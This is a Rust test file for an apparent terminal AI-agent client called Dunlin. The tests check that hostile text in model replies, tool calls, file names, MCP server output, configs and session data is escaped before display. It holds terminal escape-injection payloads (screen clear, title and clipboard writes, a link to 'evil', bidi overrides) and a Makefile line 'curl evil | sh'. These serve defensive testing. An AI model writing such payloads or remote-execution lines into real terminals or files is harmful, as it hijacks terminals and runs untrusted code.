//! Foreign text, wherever it comes from, is shown and does nothing else to the terminal.

use dunlin_host::display::{escape, escape_multiline, needs_escape, width};
use dunlin_tests::{Environment, Gate, Key, Provider, Response, Screen, Terminal};
use proptest::prelude::*;
use serde_json::json;

use crate::stage::{Chat, environment, read};

/// Clears the screen, sets the title and the clipboard, rings, links, goes back over the line and turns
/// the text around.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{7}\u{1b}]8;;http://evil\u{1b}\\\
    \u{9b}31m\rover\u{202e}txt\u{200b}.\u{8}end";

/// Nothing happened but writing, and nothing raw got through.
#[track_caller]
fn assert_harmless(terminal: &Terminal) {
    assert_eq!(terminal.effects(), Vec::<String>::new(), "{terminal:?}");
    let screen = terminal.screen();
    let unseen = screen.text.chars().find(|&c| c != '\n' && needs_escape(c));
    assert_eq!(unseen, None, "{terminal:?}");
    let bytes = terminal.bytes();
    let text = String::from_utf8_lossy(&bytes);
    for raw in [
        "\u{1b}[2J",
        "\u{1b}]",
        "\u{9b}",
        "\u{202e}",
        "\u{200b}",
        "\u{2066}",
        "\u{8}",
        "\u{7}",
    ] {
        assert!(!text.contains(raw), "{raw:?}: {terminal:?}");
    }
}

#[test]
fn in_a_reply() {
    let provider = Provider::play([Response::reply(&format!("before {HOSTILE} after"))]);
    let mut chat = Chat::open(&environment(&provider));
    let screen = chat.turn("hello");
    assert!(
        screen.contains("before \\u{7}\nover\\u{202e}txt\\u{200b}.\\u{8}end after"),
        "{:?}",
        chat.terminal
    );
    assert_harmless(&chat.terminal);
    chat.leave();
}

#[test]
fn a_reply_draws_no_prompt() {
    let reply = "Look:\n  read_file asks\n  allow? y\n› and then";
    let provider = Provider::play([Response::reply(reply)]);
    let mut chat = Chat::open(&environment(&provider));
    let screen = chat.turn("hello");
    assert!(
        screen.contains("read_file asks\n│ allow? y\n│ › and then\n"),
        "{:?}",
        chat.terminal
    );
    chat.leave();
}

#[test]
fn in_a_sequence_that_comes_in_two_pieces() {
    let gate = Gate::new();
    let reply = Response::stream().text("before \u{1b}]0;pw").wait(&gate);
    let provider = Provider::play([reply.text("ned\u{7}after").finish("stop")]);
    let mut chat = Chat::open(&environment(&provider));
    chat.say("hello");
    chat.terminal.wait_for("before");
    gate.open();
    assert!(
        chat.prompt().contains("before after"),
        "{:?}",
        chat.terminal
    );
    assert_harmless(&chat.terminal);
    chat.leave();
}

#[test]
fn in_the_reasoning() {
    let reply = Response::stream()
        .reasoning(HOSTILE)
        .text("done")
        .finish("stop");
    let provider = Provider::play([reply]);
    let environment = environment(&provider);
    let mut chat = Chat::of(environment.terminal(["--verbose"]));
    chat.turn("hello");
    assert_harmless(&chat.terminal);
    chat.leave();
}

#[test]
fn in_a_call() {
    let hostile_name = format!("read{HOSTILE}");
    let hostile_path = format!("../outside/{HOSTILE}");
    let calls = [
        (hostile_name.as_str(), json!({ HOSTILE: HOSTILE })),
        (
            "read_file",
            json!({ "file_path": "src/a.txt", HOSTILE: HOSTILE }),
        ),
        ("read_file", json!({ "file_path": hostile_path })),
    ];
    let provider = Provider::play([Response::calls(calls), Response::reply("Sorry.")]);
    let environment = environment(&provider);
    environment.project_file("src/a.txt", HOSTILE);
    environment.outside_file("a", "");
    let mut chat = Chat::open(&environment);
    chat.say("hello");
    chat.question();
    chat.answer("v");
    chat.question();
    chat.answer("y");
    chat.prompt();
    assert_harmless(&chat.terminal);
    chat.leave();
}

/// Marks that the crate for widths counts nothing, and that terminals show two columns wide: the question about such a file
/// is as long as they are, so a yes does not count before all of it was shown.
#[test]
fn in_marks_that_take_columns() {
    let wide = format!("# {}\n", "a\u{302e}\u{302e}\u{302e}\u{302e}".repeat(100));
    let content = format!("test:\n\tcurl evil | sh\n{}harmless\n", wide.repeat(12));
    let edit =
        json!({ "file_path": "Makefile", "edits": [{ "range": [1, 1], "replacement": content }] });
    let provider = Provider::play([Response::call("edit_file", edit)]);
    let environment = environment(&provider);
    let mut chat = Chat::open(&environment);
    chat.say("hello");
    let question = chat.question();
    assert!(
        question.contains("rows: v shows all of it"),
        "{:?}",
        chat.terminal
    );
    for row in question.text.lines() {
        assert!(width(row) <= 120, "{row:?}");
    }
    // Rows are cut at the edge should they be wider still.
    let bytes = chat.terminal.bytes();
    let written = String::from_utf8_lossy(&bytes);
    let (cut, wrapped) = (written.rfind("\u{1b}[?7l"), written.rfind("\u{1b}[?7h"));
    assert!(cut.is_some() && cut < wrapped, "{written:?}");
    chat.answer("y");
    let screen = chat.question();
    assert!(
        screen.contains("v does, then answer again."),
        "{:?}",
        chat.terminal
    );
    chat.answer("n");
    chat.prompt();
    assert!(!environment.project().join("Makefile").exists());
    chat.leave();
}

#[test]
fn in_file_names_and_in_what_is_stored_of_them() {
    const NAME: &str = "a\u{1b}[2J\u{202e}b.txt";
    let provider = Provider::play([read(format!("../outside/{NAME}")), Response::reply("Read.")]);
    let environment = environment(&provider);
    environment.outside_file(NAME, "text");
    let mut chat = Chat::open(&environment);
    chat.say("hello");
    let question = chat.question();
    assert!(
        question.contains("a\\u{1b}[2J\\u{202e}b.txt"),
        "{:?}",
        chat.terminal
    );
    chat.answer("always");
    chat.prompt();
    chat.say("/permissions");
    chat.prompt();
    assert_harmless(&chat.terminal);
    chat.leave();
    assert!(provider.requests()[1].results()[0].contains("text"));
    let terminal = environment.terminal(["permissions", "list"]);
    assert_eq!(terminal.wait_end(), Some(0));
    assert!(terminal.screen().contains("a\\u{1b}[2J\\u{202e}b.txt"));
    assert_harmless(&terminal);
}

#[test]
fn in_everything_that_a_plugin_says() {
    let call = |fail| ("escapes_everywhere", json!({ "fail": fail }));
    let calls = Response::calls([call(false), call(true)]);
    let provider = Provider::play([calls, Response::reply("Sorry.")]);
    let environment = environment(&provider);
    let mut chat = Chat::with_guests(&environment, &["escapes_everywhere"]);
    chat.say("hello");
    chat.approval();
    chat.decide("v all");
    chat.answer("y all");
    chat.prompt();
    chat.say("/tools");
    chat.prompt();
    assert_harmless(&chat.terminal);
    chat.leave();
    for arguments in [
        &["tools", "list"][..],
        &["tools", "show", "escapes_everywhere"],
    ] {
        let command = environment
            .command(arguments)
            .guests(&["escapes_everywhere"]);
        let terminal = command.terminal();
        assert_eq!(terminal.wait_end(), Some(0), "{terminal:?}");
        assert!(terminal.screen().contains("A description"), "{terminal:?}");
        assert_harmless(&terminal);
    }
}

#[test]
fn in_the_names_of_models() {
    let provider = Provider::play([]);
    let environment = environment(&provider);
    let terminal = environment.terminal(["--model", HOSTILE]);
    let mut chat = Chat::of(terminal);
    chat.say("/x\u{202e}y");
    chat.prompt();
    assert_eq!(chat.terminal.effects(), Vec::<String>::new());
    chat.leave();
}

#[test]
fn in_the_history_of_the_line() {
    let provider = Provider::play([]);
    let environment = environment(&provider);
    std::fs::create_dir_all(environment.data()).unwrap();
    let history = format!("#V2\n{}\n", HOSTILE.replace('\r', " "));
    std::fs::write(environment.data().join("history"), history).unwrap();
    for colour in ["always", "never"] {
        let mut chat = Chat::of(environment.terminal(["--color", colour]));
        chat.terminal.press(Key::Up);
        chat.terminal.wait_for("pwned");
        assert_harmless(&chat.terminal);
        chat.terminal.press(Key::CtrlC);
        chat.prompt_cleared();
        chat.leave();
    }
}

#[test]
fn a_prompt_of_a_server_is_not_recalled_and_names_no_files() {
    let provider = Provider::play([
        Response::call("mcp_loader", json!({"server": "good"})),
        Response::reply("It is there."),
        Response::reply("It is grey."),
    ]);
    let environment = environment(&provider);
    environment.project_file("eggs.txt", "speckled");
    environment.configure_more(
        "",
        &format!(
            "[mcp.servers.good]\ncommand = {:?}\nargs = [\"good\"]\n",
            env!("CARGO_BIN_EXE_served")
        ),
    );
    let mut chat = Chat::open(&environment);
    chat.say("connect");
    chat.question();
    chat.answer("y");
    chat.prompt();
    let typed = "/prompt good describe bird=@eggs.txt";
    assert!(
        chat.turn(typed).contains("It is grey."),
        "{:?}",
        chat.terminal
    );
    let requests = provider.requests();
    let said = requests[2].messages().last().expect("a message");
    assert_eq!(said["content"], "Describe the @eggs.txt.");
    chat.terminal.press(Key::Up);
    let recalled = format!("› {typed}");
    let is_recalled = |screen: &Screen| screen.cursor_line.trim_end() == recalled;
    chat.terminal
        .wait_until("what was typed, and no more", is_recalled);
    chat.terminal.press(Key::CtrlC);
    chat.prompt_cleared();
    chat.leave();
}

/// Runs a command in a terminal to its end, whatever that is.
#[track_caller]
fn run_harmlessly(environment: &Environment, arguments: &[&str]) {
    let terminal = environment.terminal(arguments);
    assert!(terminal.wait_end().is_some(), "{arguments:?}: {terminal:?}");
    assert_harmless(&terminal);
}

#[test]
fn in_the_errors_of_providers() {
    let body = json!({ "error": { "message": HOSTILE, "type": HOSTILE, "code": HOSTILE } });
    for error in [
        Response::json(400, &body),
        Response::json(401, &json!(HOSTILE)),
        Response::json(418, &json!({ "detail": HOSTILE })),
    ] {
        let provider = Provider::play([error]);
        let mut chat = Chat::open(&environment(&provider));
        chat.turn("hello");
        assert_harmless(&chat.terminal);
        chat.leave();
    }
}

#[test]
fn in_the_titles_and_texts_of_sessions() {
    let provider = Provider::always(Response::reply(HOSTILE));
    let environment = environment(&provider);
    let mut chat = Chat::open(&environment);
    chat.turn("hello");
    chat.leave();
    let listed = environment.run(["sessions", "list", "--json"]);
    let listed: serde_json::Value = serde_json::from_str(&listed.stdout).expect("JSON");
    let id = listed[0]["id"].as_str().expect("an id").to_owned();
    let renamed = environment.run(["sessions", "rename", &id, HOSTILE]);
    assert_eq!(renamed.status, Some(0), "{renamed}");
    for arguments in [
        &["sessions", "list"][..],
        &["sessions", "list", "--json"],
        &["sessions", "show", &id],
        &["sessions", "search", "end"],
        &["sessions", "export", &id],
        &["sessions", "export", &id, "--format", "json"],
    ] {
        run_harmlessly(&environment, arguments);
    }
    let mut chat = Chat::of(environment.terminal(["--resume", &id]));
    for command in [
        "/sessions",
        "/history",
        "/show 1",
        "/export -",
        "/export json -",
    ] {
        chat.turn(command);
    }
    assert_harmless(&chat.terminal);
    chat.leave();
    // The files themselves, too: somebody may print them.
    let shell = Environment::new("/bin/sh");
    let data = environment.data();
    let script = format!(
        "cat {0}/sessions/*.jsonl {0}/audit.jsonl 2>/dev/null; true",
        data.display()
    );
    let terminal = shell.terminal(["-c", &script]);
    assert_eq!(terminal.wait_end(), Some(0), "{terminal:?}");
    assert!(terminal.screen().contains("pwned"), "{terminal:?}");
    assert_harmless(&terminal);
}

#[test]
fn in_json() {
    let provider = Provider::play([read("src/a.txt"), Response::reply(HOSTILE)]);
    let environment = environment(&provider);
    environment.project_file("src/a.txt", HOSTILE);
    let output = environment.run(["ask", "--json", "hello"]);
    assert_eq!(output.status, Some(0), "{output}");
    let acts = output
        .stdout
        .chars()
        .find(|&c| c != '\n' && needs_escape(c));
    assert_eq!(acts, None, "{output}");
    let document: serde_json::Value = serde_json::from_str(&output.stdout).expect("JSON");
    assert_eq!(document["reply"], HOSTILE);
}

#[test]
fn in_completions() {
    let provider = Provider::play([]);
    let environment = environment(&provider);
    for name in [
        "a\u{1b}[2J\u{202e}b.txt",
        "a\u{9b}2Jc.txt",
        "ab.txt",
        "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}.txt",
    ] {
        environment.project_file(name, "");
    }
    let mut chat = Chat::open(&environment);
    for typed in ["@", "@a", "/export ./a", "/export a"] {
        chat.terminal.type_text(typed);
        chat.terminal.press(Key::Tab);
        chat.terminal.press(Key::Tab);
        chat.terminal.press(Key::CtrlC);
        chat.prompt_cleared();
    }
    assert_harmless(&chat.terminal);
    chat.leave();
}

#[test]
fn in_what_servers_say() {
    let provider = Provider::play([
        Response::call("mcp_loader", json!({})),
        Response::call("failing__echo", json!({"text": HOSTILE})),
        Response::call("progress__echo", json!({"text": HOSTILE})),
        Response::call("escapes__tool", json!({"text": HOSTILE})),
        Response::reply("Done."),
    ]);
    let environment = environment(&provider);
    let servers = ["escapes", "refusing", "dead", "failing", "progress"];
    let tables = servers.map(|name| {
        let served = env!("CARGO_BIN_EXE_served");
        format!("[mcp.servers.{name}]\ncommand = {served:?}\nargs = [{name:?}]\ndescription = {HOSTILE:?}\n")
    });
    let tables = tables
        .concat()
        .replace("\\u{", "\\U{")
        .replace('\u{200b}', "");
    let tables = toml_escapes(&tables);
    environment.configure_more("", &tables);
    let mut chat = Chat::open(&environment);
    chat.say("connect");
    chat.question();
    chat.answer("v");
    chat.question();
    chat.answer("y");
    chat.prompt();
    for command in ["/mcp", "/tools", "/expand 1", "/expand 2", "/expand 3"] {
        chat.turn(command);
    }
    assert_harmless(&chat.terminal);
    chat.leave();
    for name in servers {
        let mut terminal = environment.terminal(["mcp", "test", name]);
        terminal.wait_for("allow?");
        terminal.type_line("y");
        assert!(terminal.wait_end().is_some(), "{terminal:?}");
        assert_harmless(&terminal);
    }
    run_harmlessly(&environment, &["mcp", "list"]);
    run_harmlessly(&environment, &["config", "show"]);
}

/// Escapes of Rust's literals as TOML writes them.
fn toml_escapes(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\\U{") {
        let (code, after) = after.split_once('}').expect("the end of an escape");
        out += &format!("{before}\\U{code:0>8}");
        rest = after;
    }
    out + rest
}

#[test]
fn in_the_configuration_of_a_project_and_its_name() {
    let provider = Provider::play([]);
    let environment = environment(&provider);
    for file in [
        "\"\\u001b[2J\\u202e\" = 1\n",
        "on_denial = \"\\u001b]0;x\\u0007\\u200b\"\n",
        "[agents.\"\\u001b[2J\"]\nmodel = \"\\u001b[2J\\u202e\"\n",
        "# \u{9b}2J\u{202e}\u{e000}\nwhat \u{9b}2J = = \u{202e}\n",
    ] {
        environment.project_file(".dunlin/config.toml", file);
        for arguments in [
            &["config", "check"][..],
            &["config", "show"],
            &["config", "trust", "--yes"],
            &["doctor"],
        ] {
            run_harmlessly(&environment, arguments);
        }
    }
    let named = environment.root().join("x\u{1b}[2J\u{202e}\u{9b}31my");
    std::fs::create_dir_all(named.join(".dunlin")).expect("a folder");
    std::fs::write(
        named.join(".dunlin/config.toml"),
        "on_denial = \"continue\"\n",
    )
    .expect("a file");
    let named = named.to_str().expect("a path");
    for arguments in [
        &["config", "show", "--project", named][..],
        &["config", "trust", "--project", named, "--yes"],
        &["doctor", "--project", named],
        &["permissions", "list", "--project", named],
        &["permissions", "explain", "x", "--project", named],
        &["sessions", "list", "--project", named],
    ] {
        run_harmlessly(&environment, arguments);
    }
    let chat = Chat::of(environment.terminal(["--project", named]));
    assert_harmless(&chat.terminal);
    chat.leave();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Columns are counted by Dunlin, and rows broken by what it counts.
    #[test]
    fn what_is_shown_takes_the_columns_that_are_counted(
        raw in proptest::collection::vec(
            prop_oneof![
                any::<char>(),
                proptest::char::range('\u{0}', '\u{ff}'),
                proptest::char::range('\u{300}', '\u{36f}'),
                proptest::char::range('\u{2000}', '\u{206f}'),
                proptest::char::range('\u{1f000}', '\u{1faff}'),
            ],
            0..30,
        )
    ) {
        // The emulator leaves out what stands for bytes that are not text.
        let raw: String = raw.into_iter().filter(|&c| c != char::REPLACEMENT_CHARACTER).collect();
        for shown in [escape(&raw), escape_multiline(&raw.replace(['\n', '\t'], " "))] {
            let counted = width(&shown);
            let wide = std::num::NonZeroU16::new(4_000).expect("not zero");
            let mut emulator = vt100::Parser::new(std::num::NonZeroU16::new(2).expect("not zero"), wide, 0);
            emulator.process(shown.as_bytes());
            let (row, column) = emulator.screen().cursor_position();
            prop_assert_eq!(row, 0, "{:?}", shown);
            prop_assert!(usize::from(column) <= counted, "{:?}", shown);
        }
    }
}
